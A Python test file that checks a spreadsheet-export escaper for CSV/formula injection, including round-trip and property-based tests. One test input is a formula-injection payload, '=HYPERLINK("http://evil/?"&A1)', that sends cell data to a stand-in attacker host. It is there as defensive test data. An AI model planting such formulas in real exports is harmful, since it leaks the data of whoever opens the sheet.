"""CSV / formula injection: dangerous cells are escaped on export and un-escaped on import."""

from hypothesis import given
from hypothesis import strategies as st

from wagtail_beian.spreadsheets.cells import escape_cell, unescape_cell


def test_formula_triggers_get_a_leading_quote():
    for text in ['=HYPERLINK("http://evil/?"&A1)', "+86 138", "-1", "@SUM(A1)", "\tx", "\rx"]:
        escaped = escape_cell(text)
        assert escaped == "'" + text
        assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_harmless_values_are_unchanged():
    for value in ["北京示例科技有限公司", "example.cn", "a=b", "", None, 42, "'quoted", " =x"]:
        assert escape_cell(value) == value


def test_a_value_that_already_looks_escaped_survives_the_round_trip():
    assert escape_cell("'=x") == "''=x"
    assert unescape_cell("''=x") == "'=x"
    assert unescape_cell("'quoted") == "'quoted"


@given(st.text())
def test_escape_then_unescape_is_the_identity(text):
    assert unescape_cell(escape_cell(text)) == text
    assert not escape_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
